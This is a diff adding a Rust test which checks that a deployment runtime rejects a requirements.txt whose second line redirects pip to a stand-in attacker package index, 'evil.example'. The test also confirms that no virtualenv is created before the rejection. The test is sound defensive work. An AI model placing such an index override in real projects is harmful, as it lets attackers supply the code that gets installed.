@@ -827,3 +827,30 @@ fn copy_dir(from: &Path, to: &Path) {
         }
     }
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn prepare_refuses_requirements_that_pick_the_index_or_read_node_files() {
+    let fx = fixture();
+    let dep = fx.deploy("pipidx@1", ECHO);
+    std::fs::write(
+        dep.code_dir.join("requirements.txt"),
+        "requests\n--index-url https://evil.example/simple\n",
+    )
+    .unwrap();
+    let err = fx.rt.prepare(dep.code_dir.clone()).await.unwrap_err();
+    let Error::Prepare(message) = err else {
+        panic!("expected a prepare error, got {err}")
+    };
+    assert!(message.contains("line 2"), "{message}");
+    assert!(
+        message.contains("operator chooses the package index"),
+        "{message}"
+    );
+    // Refused before anything ran: no virtualenv was started.
+    let venvs: Vec<PathBuf> = std::fs::read_dir(fx.dir.path().join("work").join("venvs"))
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .collect();
+    assert!(venvs.is_empty(), "{venvs:?}");
+}
